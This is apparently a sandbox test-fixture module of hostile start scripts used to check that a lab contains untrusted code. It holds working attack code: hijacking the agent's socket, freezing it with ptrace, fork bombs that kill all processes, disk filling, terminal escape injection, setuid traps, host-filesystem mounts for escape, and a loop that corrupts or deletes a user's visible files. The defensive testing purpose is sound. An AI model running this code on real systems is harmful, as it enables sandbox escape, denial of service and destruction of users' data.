"""Start commands of untrusted topologies, which try to outlive their lab, to prevent its end, or to get out.

Each is a shell script that ends soon, so that the run continues while its background programs work. `@SHOWN@` stands
for a folder of the user's that is visible in the lab. `tests.walls.kills` runs them.
"""

from __future__ import annotations

#: The beginning of a program in the lab: `wire` is the agent's own end of it. The attack follows.
WITH_WIRE = r"""
import ctypes, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
agent = os.pidfd_open(1)

def taken():
    for number in sorted(map(int, os.listdir("/proc/1/fd"))):
        try:
            kind = os.readlink(f"/proc/1/fd/{number}")
        except FileNotFoundError:
            continue  # closed since
        if kind.startswith("socket:"):
            handle = libc.syscall(438, agent, number, 0)
            if handle >= 0:
                found = socket.socket(fileno=handle)
                if found.family == socket.AF_UNIX and found.type & socket.SOCK_STREAM:
                    return found
    sys.exit("no wire")

wire = taken()
"""

#: Stops the agent permanently, by the system calls of a debugger.
FREEZE = (
    WITH_WIRE
    + r"""
libc.ptrace.argtypes = [ctypes.c_long] * 4
for thread in os.listdir("/proc/1/task"):
    libc.ptrace(0x4206, int(thread), 0, 0)  # PTRACE_SEIZE
    libc.ptrace(0x4207, int(thread), 0, 0)  # PTRACE_INTERRUPT
open("/run/lab/files/stopped", "w").close()
time.sleep(1000)
"""
)


def in_background(code: str, output_file: str = "/dev/null") -> str:
    """A line of a shell that starts a Python program and does not wait for it."""
    return f"python3 - > {output_file} 2>&1 <<'PROGRAM' &\n{code}\nPROGRAM"


#: Traps in the results for their readers, in folders that nobody can list.
TRAPS = r"""
cd /run/lab/files; mkdir -p open shut/inner nobody; umask 0
for folder in open shut/inner nobody; do
  cp /bin/sh $folder/sh; chmod 4755 $folder/sh; chmod 2755 $folder/sh; chmod 6777 $folder/sh
  ln -s /etc/passwd $folder/out; ln -s @SHOWN@ $folder/folder; ln -s ../../../.. $folder/up; mkfifo $folder/pipe
  echo read me > $folder/closed; chmod 000 $folder/closed
  ln @SHOWN@/plain/644 $folder/hard
done
mkdir -p p/q/r/s/t; ln -s ../../../../.. p/q/r/s/t/back; ln -s p/q/r/s/t/back/../../../../../../.. round
python3 -c '
import os, socket
socket.socket(socket.AF_UNIX).bind("socket")
for number in range(900):
    os.mkdir("deep"); os.chdir("deep")
os.symlink("/", "end")
'
python3 -c '
import os  # in a lab kernel modes are for ever, so all have theirs from the beginning
os.umask(0)
os.mkdir("names", 0o311); os.mkdir("names/none", 0); os.mkdir("names/more", 0o333); os.mkfifo("names/pipe", 0)
os.symlink("/etc/passwd", "names/more/out"); os.symlink("../../..", "names/up")
for path, mode in (("names/closed", 0), ("names/more/plain", 0o755), ("names/more/made", 0o6755), ("made", 0o4755)):
    try:
        os.write(os.open(path, os.O_CREAT | os.O_WRONLY, mode), b"#!/bin/sh\n")
    except PermissionError:
        pass  # a mode that nobody may set
'
chmod 0011 shut/inner; chmod 000 shut nobody; chmod 0111 p/q/r; true
"""

_STUBBORN = in_background(
    r"""
import os, signal, time, ctypes
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
ctypes.CDLL(None).prctl(36, 1)
for _ in range(60):
    if not os.fork():
        os.setsid()
        if not os.fork():
            while True:
                time.sleep(0.05)
        os._exit(0)
while True:
    try:
        os.kill(-1, signal.SIGTERM)
    except OSError:
        pass
    time.sleep(0.2)
"""
)

_FORKS = (
    in_background(
        r"""
import os, time
os.setsid()
until = time.time() + 60
while time.time() < until:
    try:
        if os.fork():
            os._exit(0)
        os.setpgid(0, 0)
    except OSError:
        pass
    time.sleep(0.001)
"""
    )
    + "\nunshare -Urmpf --mount-proc sh -c 'setsid sleep 4321 & exec sleep 4322' &\ntrue"
)

_WRITES = in_background(
    r"""
import os
os.makedirs("/run/lab/files/many", exist_ok=True)
for number in range(4000):
    with open(f"/run/lab/files/many/{number}", "w") as file:
        file.write("x" * 100)
with open("/run/lab/files/large", "wb") as file:
    for _ in range(256):
        file.write(bytes(1 << 20))
    file.truncate(1 << 33)
"""
)

_ESCAPES = (
    in_background(
        r"""
import os, time
words = "\x1b]0;OWNED\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\u202e [/nothing] [red]"
os.makedirs("/run/lab/files/logs", exist_ok=True)
for folder in ("/run/lab/files", "/run/lab/files/logs"):
    with open(f"{folder}/{words.replace('/', '')}", "w") as file:
        file.write(words * 1000)
try:
    console = open("/proc/1/fd/1", "w")
except OSError:
    console = open("/dev/null", "w")
for _ in range(2000):
    console.write(words + "\n")
    console.flush()
    time.sleep(0.005)
"""
    )
    + "\nprintf '\\033]0;OWNED\\007\\033[2J [/nothing]'; exit 3"
)

#: Folders that nobody can list, in every memory file system and in the lab's own scratch folder.
MEMORY = in_background(
    r"""
import os, re, subprocess
places = ["/tmp", "/dev/shm", "/var/tmp", "/run"]
scratch = re.search(r" (\S+)/boot(?:\S*)? /run/lab/boot ", open("/proc/self/mountinfo").read())
if scratch:
    os.makedirs("/tmp/host", exist_ok=True)
    subprocess.run(["mount", "-t", "hostfs", "none", "/tmp/host", "-o", "/"], stderr=subprocess.DEVNULL)
    for path in (scratch[1], scratch[1] + "/mem"):
        places += [path, "/tmp/host" + path, "/tmp/host/dev/shm" + path]
for place in places:
    try:
        for name, mode in (("keep", 0o311), ("none", 0), ("names", 0o444)):
            os.makedirs(f"{place}/{name}/inner", exist_ok=True)
            with open(f"{place}/{name}/inner/file", "wb") as file:
                file.write(bytes(4 << 20))
            os.chmod(f"{place}/{name}/inner", 0)
            os.chmod(f"{place}/{name}", mode)
    except OSError as error:
        print(place, error)
"""
)

_FLOOD = in_background(
    WITH_WIRE
    + r"""
time.sleep(0.5)
data = b'{"type":"step","name":"flows","state":"odd","time_s":1,"text":"' + b"x" * 5000 + b'"}\n'
until = time.time() + 60
while time.time() < until:
    wire.sendall(data * 20)
    wire.sendall(b"y" * 100000)
"""
)

#: A Python program that tries every change of a file by every path to it.
CHANGES = r"""
import os, subprocess
subprocess.run(["mkdir", "-p", "/tmp/again"])
subprocess.run("mount -t hostfs none /tmp/again -o / || mount --rbind / /tmp/again", shell=True)
tries = (
    lambda path: open(path, "w").write("harmed"), lambda path: os.chmod(path, 0o777), lambda path: os.truncate(path, 0),
    lambda path: os.utime(path, (1, 1)), lambda path: os.setxattr(path, "user.kept", b"harmed"),
    lambda path: os.chown(path, 12, 12), lambda path: os.rename(path, path + ".moved"), os.unlink, os.rmdir,
    lambda path: os.symlink("/", path + ".new"), lambda path: os.mkfifo(path + ".pipe"),
    lambda path: os.link(path, "/run/lab/files/hard"), lambda path: os.link(path, path + ".hard"),
    lambda path: os.open(path, os.O_RDONLY | os.O_TRUNC | os.O_NONBLOCK),
    lambda path: os.mkdir(path + ".folder"), lambda path: os.removexattr(path, "user.kept"),
)
for top in ("@SHOWN@", "/tmp/again@SHOWN@", "/proc/1/root@SHOWN@"):
    for here, folders, files in os.walk(top, topdown=False):
        for path in [here, *(os.path.join(here, name) for name in folders + files)]:
            for attempt in tries:
                try:
                    attempt(path)
                except OSError:
                    pass
"""

STRANGERS = {
    "traps": f"{TRAPS}chmod 000 .; true",
    "stubborn": _STUBBORN,
    "forks": _FORKS,
    "writes": _WRITES,
    "escapes": _ESCAPES,
    "memory": MEMORY,
    "flood": _FLOOD,
    "freeze": in_background(FREEZE),
    "canary": in_background(CHANGES),
}
